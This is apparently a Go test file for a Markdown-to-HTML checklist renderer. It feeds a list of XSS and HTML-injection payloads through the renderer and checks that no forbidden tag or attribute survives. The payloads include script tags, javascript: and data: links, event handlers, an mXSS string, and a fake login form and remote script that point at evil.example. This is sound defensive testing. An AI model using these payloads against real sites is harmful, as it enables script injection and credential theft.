package checklist

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// attacks are Markdown an attacker might put in a template, in an item,
// under it, between items and in the description.
var attacks = []string{
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"[click](javascript:alert(1))",
	"[click](JaVaScRiPt:alert(1))",
	"[click](&#106;avascript:alert(1))",
	"[click](java\tscript:alert(1))",
	"[click](vbscript:msgbox(1))",
	"[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"<javascript:alert(1)>",
	"[ref]\n\n[ref]: javascript:alert(1)",
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="https://ok.example" onclick="alert(1)">x</a>`,
	"![x](javascript:alert(1))",
	"![tracker](https://evil.example/pixel.png)",
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)><circle r=1 /></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<style>body{display:none}</style>`,
	`<p style="position:fixed;top:0">overlay</p>`,
	`<div class="btn btn-danger" id="login">fake</div>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<form action="https://evil.example"><input name=password><button>go</button></form>`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	"<!-- <script>alert(1)</script> -->",
	"`<script>` in code is text",
	"```html\n<script>alert(1)</script>\n```",
	`<a href="/relative">relative</a>`,
	"| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
}

// allowed is every attribute rendered Markdown may carry, with what its
// value must look like.
var allowed = map[string]*regexp.Regexp{
	"href":   regexp.MustCompile(`^(https?://|mailto:)`),
	"rel":    regexp.MustCompile(`^nofollow noreferrer noopener$`),
	"target": regexp.MustCompile(`^_blank$`),
	"start":  regexp.MustCompile(`^[0-9]+$`),
	"align":  regexp.MustCompile(`^(left|center|right)$`),
	"class":  regexp.MustCompile(`^language-[A-Za-z0-9_+.#-]+$`),
	"title":  regexp.MustCompile(`^[^<>]*$`),
	"open":   regexp.MustCompile(`^$`),
}

var forbidden = map[string]bool{"script": true, "style": true, "img": true, "svg": true, "math": true, "iframe": true,
	"form": true, "input": true, "button": true, "object": true, "embed": true, "meta": true, "base": true, "link": true, "div": true}

// TestRenderedMarkdownIsSafe renders each attack wherever Markdown is
// rendered and checks, with an HTML tokenizer, that no element or
// attribute outside the allowed set survives: no script, no handler, no
// javascript: or data: link, no style, no image.
func TestRenderedMarkdownIsSafe(t *testing.T) {
	for _, a := range attacks {
		indented := "  " + strings.ReplaceAll(a, "\n", "\n  ")
		src := a + "\n\n## P\n\n" + a + "\n\n- [ ] " + strings.ReplaceAll(a, "\n", " ") + "\n\n" + indented + "\n\n  - [ ] child\n\n" + indented + "\n\n" + a + "\n"
		tpl, err := Parse([]byte(src))
		if err != nil {
			t.Fatalf("%q: %v", a, err)
		}
		sec := tpl.Phases[0].Sections[0]
		it := sec.Items[0]
		for where, h := range map[string]string{"description": tpl.DescriptionHTML, "phase intro": tpl.Phases[0].IntroHTML,
			"item": it.HTML, "item body": it.BodyHTML, "after sub-item": it.Children[0].AfterHTML, "after item": it.AfterHTML,
			"whole file": HTML([]byte(src))} {
			checkSafe(t, a, where, h)
		}
	}
}

func checkSafe(t *testing.T, attack, where, h string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(h))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			if forbidden[tok.Data] {
				t.Errorf("%q in %s: <%s> survived: %s", attack, where, tok.Data, h)
			}
			for _, at := range tok.Attr {
				re, ok := allowed[at.Key]
				if !ok || !re.MatchString(at.Val) {
					t.Errorf("%q in %s: attribute %s=%q survived: %s", attack, where, at.Key, at.Val, h)
				}
			}
		case html.TextToken:
			if l := strings.ToLower(string(z.Text())); strings.Contains(l, "<script") && !strings.Contains(h, "&lt;script") {
				t.Errorf("%q in %s: script text: %s", attack, where, h)
			}
		}
	}
}

// TestRenderedMarkdownLooksLikeGitHub: links are links, code is code,
// tables are tables, images are links to them.
func TestRenderedMarkdownLooksLikeGitHub(t *testing.T) {
	for src, want := range map[string]string{
		"[docs](https://example.com/docs)":      `<a href="https://example.com/docs" rel="nofollow noreferrer noopener" target="_blank">docs</a>`,
		"see https://example.com":               `<a href="https://example.com" rel="nofollow noreferrer noopener" target="_blank">https://example.com</a>`,
		"`make test`":                           "<code>make test</code>",
		"~~old~~ **new** _it_":                  "<del>old</del> <strong>new</strong> <em>it</em>",
		"![diagram](https://example.com/d.png)": `<a href="https://example.com/d.png" rel="nofollow noreferrer noopener" target="_blank">diagram</a>`,
		"| a | b |\n|:-|-:|\n| 1 | 2 |":         `<td align="right">2</td>`,
		"<kbd>Ctrl</kbd>+<kbd>C</kbd>":          "<kbd>Ctrl</kbd>+<kbd>C</kbd>",
		"mail me@example.com":                   `<a href="mailto:me@example.com"`,
	} {
		if got := HTML([]byte(src)); !strings.Contains(got, want) {
			t.Errorf("%q renders %q, want it to hold %q", src, got, want)
		}
	}
}
